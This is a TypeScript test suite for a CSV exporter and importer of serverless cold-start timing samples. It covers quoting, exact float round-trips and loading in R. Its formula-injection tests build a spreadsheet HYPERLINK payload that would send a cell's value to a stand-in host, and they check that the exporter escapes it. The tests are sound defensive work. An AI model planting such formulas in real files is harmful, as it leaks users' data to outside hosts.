import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportCsv } from '../../../shared/csv/export-csv';
import { importCsv } from '../../../shared/csv/import-csv';
import { COLUMNS, HEADER_LINE, type ColumnKey } from '../../../shared/csv/schema';
import { emptySample, type Sample } from '../../../shared/sample';
import { seededRandom } from '../../random';
import { HAVE_SEED_RUNS, SEED_FILES, SEED_RUNS_DIR, noteSeedRunsSkip } from '../../seed-runs';

noteSeedRunsSkip();

const full: Sample = {
  name: 'hello-node',
  memoryMB: 1024,
  initMs: 166.76,
  durationMs: 2.72,
  billedMs: 3,
  arch: 'arm64',
  runtime: 'nodejs18.x',
  maxMemoryUsedMB: 64,
  restoreMs: null,
  status: 'success',
  errorType: null,
  requestId: '3f2a6a1e-1b2c-4d5e-8f90-123456789abc',
  timestamp: '2023-07-29T18:30:11.606Z',
  run: 'run-1',
};

/** Sample field → the CSV column that holds it. */
const columnKey: Partial<Record<keyof Sample, ColumnKey>> = {
  name: 'name',
  runtime: 'runtime',
  status: 'status',
  errorType: 'errorType',
  requestId: 'requestId',
  timestamp: 'timestamp',
  run: 'run',
};

function roundTrip(samples: Sample[]): Sample[] {
  const result = importCsv(exportCsv(samples), 'export.csv');
  if (!result.ok) throw new Error(result.error);
  return result.samples;
}

describe('exportCsv', () => {
  it('writes the header, `.` decimals and empty cells for unknown values', () => {
    const text = exportCsv([full, { ...emptySample('f'), durationMs: 1234567.5, billedMs: 1234568 }]);
    expect(text).toBe(
      `${HEADER_LINE}\n` +
        'hello-node;1024;166.76;2.72;3;arm64;nodejs18.x;64;;success;3f2a6a1e-1b2c-4d5e-8f90-123456789abc;2023-07-29T18:30:11.606Z;run-1;\n' +
        'f;;;1234567.5;1234568;;;;;;;;;\n',
    );
    expect(
      HEADER_LINE.startsWith(
        'Name;Memory;Init;Cold;Billed;Arch;Runtime;MaxMemory;Restore;Status;RequestId;Timestamp;Run',
      ),
    ).toBe(true);
  });

  it('writes the header for no samples', () => {
    expect(exportCsv([])).toBe(`${HEADER_LINE}\n`);
  });

  it('quotes values that need it', () => {
    const text = exportCsv([{ ...full, run: 'a;b "c"\nd' }]);
    expect(text).toContain(';"a;b ""c""\nd";');
    expect(roundTrip([{ ...full, run: 'a;b "c"\nd' }])).toEqual([{ ...full, run: 'a;b "c"\nd' }]);
  });

  describe('text a spreadsheet would run as a formula', () => {
    const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
    const TEXT_FIELDS = ['name', 'runtime', 'status', 'errorType', 'requestId', 'timestamp', 'run'] as const;
    const line = (text: string): string => text.slice(HEADER_LINE.length + 1);

    it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))(
      'is escaped with a leading quote and quoted, and imports back as it was: %s',
      (_what, trigger) => {
        const payload = `${trigger}HYPERLINK("http://x.example/?"&A1;"a")`;
        for (const field of TEXT_FIELDS) {
          const sample: Sample = { ...full, [field]: payload };
          const text = exportCsv([sample]);
          const cells = Papa.parse<string[]>(line(text), { delimiter: ';' }).data[0]!;
          expect(cells[COLUMNS.findIndex((c) => c.key === columnKey[field])]).toBe(`'${payload}`);
          expect(line(text)).toContain(`"'${payload.replaceAll('"', '""')}"`);
          expect(roundTrip([sample])).toEqual([sample]);
        }
      },
    );

    it('keeps a quote the user wrote: one more quote only where the rest would be escaped', () => {
      const names = ["'quoted", "it's", "'", "''", "'=x", "''=x", "'-1", "' =x", '=', '-', "'\t"];
      const samples = names.map((name) => ({ ...emptySample(name), durationMs: 1, billedMs: 1 }));
      const written = exportCsv(samples)
        .trimEnd()
        .split('\n')
        .slice(1)
        .map((row) => row.split(';')[0]);
      expect(written).toEqual([
        "'quoted",
        "it's",
        "'",
        "''",
        `"''=x"`,
        `"'''=x"`,
        `"''-1"`,
        "' =x",
        `"'="`,
        `"'-"`,
        `"''\t"`,
      ]);
      expect(roundTrip(samples)).toEqual(samples);
    });

    it('leaves numbers alone, negative ones too', () => {
      const sample: Sample = { ...full, initMs: -2, durationMs: -1.5, maxMemoryUsedMB: -64 };
      expect(line(exportCsv([sample]))).toMatch(/^hello-node;1024;-2;-1\.5;3;arm64;nodejs18\.x;-64;;/);
    });

    it('round-trips any text exactly', () => {
      const next = seededRandom(7);
      const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', "'", "'", '"', ';', ',', ' ', 'a', '1'];
      const pick = (from: string[]): string => from[Math.floor(next() * from.length)] as string;
      // Text is trimmed on import unless escaped, so every string starts and ends with a character that is not space.
      const first = alphabet.filter((c) => c !== ' ' && c !== '\n');
      const samples: Sample[] = Array.from({ length: 2000 }, (_, i) => {
        let value = pick(first);
        for (let k = Math.floor(next() * 6); k > 0; k--) value += pick(alphabet);
        return { ...full, requestId: `r-${i}`, [pick([...TEXT_FIELDS])]: `${value}z` };
      });
      expect(
        samples.filter((s) => Object.values(s).some((v) => /^'*[-=+@\t\r]/.test(String(v)))).length,
      ).toBeGreaterThan(500);
      expect(roundTrip(samples)).toEqual(samples);
    });

    it('imports escaped cells from a file without quotes as from one with quotes', () => {
      const text = "Name;Memory;Init;Cold;Billed;Run\n'=SUM(A1);128;1;2;3;''+x\n'plain;128;1;2;3;'@\n";
      for (const file of [text, text.replace('Name', '"Name"')]) {
        const r = importCsv(file, 'a.csv');
        if (!r.ok) throw new Error(r.error);
        expect(r.samples.map((s) => [s.name, s.run])).toEqual([
          ['=SUM(A1)', "'+x"],
          ["'plain", '@'],
        ]);
      }
    });
  });

  it('quotes text with edge spaces, a carriage return or a BOM, as Papa Parse reads it', () => {
    const runs = [' a', 'a ', 'a\rb', '\uFEFFa', 'a,b', "it's"];
    const text = exportCsv(runs.map((run) => ({ ...full, run })));
    expect(
      text
        .split('\n')
        .slice(1, -1)
        .map((row) => row.split(';')[12]),
    ).toEqual(['" a"', '"a "', '"a\rb"', '"\uFEFFa"', 'a,b', "it's"]);
    expect(roundTrip([{ ...full, run: 'a\rb' }])).toEqual([{ ...full, run: 'a\rb' }]);
  });

  it('round-trips samples exactly, including awkward floats', () => {
    const next = seededRandom(42);
    const samples: Sample[] = [full, emptySample('warm-only')];
    const awkward = [
      0.1 + 0.2,
      1 / 3,
      1e-7,
      123456789.123456,
      5e-324,
      1.7976931348623157e308,
      2 ** 53 + 2,
      0,
    ];
    for (let i = 0; i < 500; i++) {
      samples.push({
        ...full,
        name: `fn-${i % 7}`,
        memoryMB: 128 + Math.floor(next() * 10112),
        initMs: i % 5 === 0 ? null : i < awkward.length ? (awkward[i] as number) || null : next() * 1000,
        durationMs: i < awkward.length ? (awkward[i] as number) : next() * 100,
        billedMs: Math.ceil(next() * 100),
        arch: i % 3 === 0 ? null : i % 3 === 1 ? 'arm64' : 'x86_64',
        runtime: i % 4 === 0 ? null : 'python3.12',
        maxMemoryUsedMB: i % 2 === 0 ? null : Math.round(next() * 500),
        restoreMs: i % 6 === 0 ? next() * 500 : null,
        status: i % 10 === 0 ? 'timeout' : 'success',
        errorType: i % 10 === 0 ? 'Sandbox.Timedout' : null,
        requestId: i % 2 === 0 ? null : `req-${i}`,
        timestamp: i % 2 === 0 ? null : new Date(1690655411606 + i).toISOString(),
        run: i % 9 === 0 ? null : `run ${i % 3}`,
      });
    }
    expect(roundTrip(samples)).toEqual(samples);
    // Exactly: every number is the same double, not merely close.
    const back = roundTrip(samples);
    expect(back.every((s, i) => Object.is(s.durationMs, samples[i]!.durationMs))).toBe(true);
  });

  describe.skipIf(!HAVE_SEED_RUNS)('the seed runs', () => {
    it.each(SEED_FILES)('%s round-trips', (file) => {
      const first = importCsv(readFileSync(join(SEED_RUNS_DIR, file), 'utf8'), file);
      if (!first.ok) throw new Error(first.error);
      expect(roundTrip(first.samples)).toEqual(first.samples);
    });
  });

  const haveR = (() => {
    try {
      execFileSync('Rscript', ['--version'], { stdio: 'ignore' });
      return true;
    } catch {
      console.log('Skipping the R read.csv check: Rscript is not installed.');
      return false;
    }
  })();

  it.skipIf(!haveR)("loads in R with read.csv(file, sep = ';')", () => {
    const dir = mkdtempSync(join(tmpdir(), 'coldstart-r-'));
    const file = join(dir, 'export.csv');
    writeFileSync(file, exportCsv([full, { ...full, initMs: null, run: 'a;b "c"', arch: null }]));
    const out = execFileSync(
      'Rscript',
      [
        '-e',
        `d <- read.csv(${JSON.stringify(file)}, sep = ";"); cat(nrow(d), names(d), sprintf("%.2f", sum(d$Init, na.rm = TRUE)), is.na(d$Init[2]), d$Run[2], class(d$Cold), sep = "|")`,
      ],
      { encoding: 'utf8' },
    );
    expect(out).toBe(
      '2|Name|Memory|Init|Cold|Billed|Arch|Runtime|MaxMemory|Restore|Status|RequestId|Timestamp|Run|ErrorType|166.76|TRUE|a;b "c"|numeric',
    );
    expect(readFileSync(file, 'utf8').split('\n')[0]).toBe(HEADER_LINE);
  });

  it.skipIf(!haveR)('loads escaped formulas in R as text, with a numeric Cold column', () => {
    const dir = mkdtempSync(join(tmpdir(), 'coldstart-r-'));
    const file = join(dir, 'export.csv');
    writeFileSync(
      file,
      exportCsv([
        { ...full, name: '=1+2', errorType: '-x' },
        { ...full, name: "'quoted" },
      ]),
    );
    const out = execFileSync(
      'Rscript',
      [
        '-e',
        `d <- read.csv(${JSON.stringify(file)}, sep = ";"); cat(d$Name, d$ErrorType[1], class(d$Cold), sep = "|")`,
      ],
      { encoding: 'utf8' },
    );
    expect(out).toBe("'=1+2|'quoted|'-x|numeric");
  });
});
